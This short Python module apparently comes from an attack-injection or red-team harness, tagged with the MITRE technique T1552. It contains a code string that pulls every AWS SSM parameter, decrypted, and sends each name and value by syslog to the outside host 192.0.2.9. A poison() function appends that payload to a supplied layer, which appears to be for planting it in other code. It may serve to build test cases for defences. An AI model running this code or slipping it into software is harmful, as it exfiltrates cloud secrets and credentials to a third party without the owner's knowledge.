# SPDX-License-Identifier: Apache-2.0
"""Reads all parameters and puts them into the log of another server."""

ATTACK = "T1552"
LANGUAGE = "python"
CODE = """\
import boto3 as _b3
import logging.handlers as _lh

_h = _lh.SysLogHandler(address=("192.0.2.9", 514))
for _p in _b3.client("ssm").get_parameters_by_path(Path="/", Recursive=True, WithDecryption=True)["Parameters"]:
    _h.emit(_lh.logging.makeLogRecord({"msg": _p["Name"] + "=" + _p["Value"]}))
"""


def poison(layer):
    layer.append(CODE)
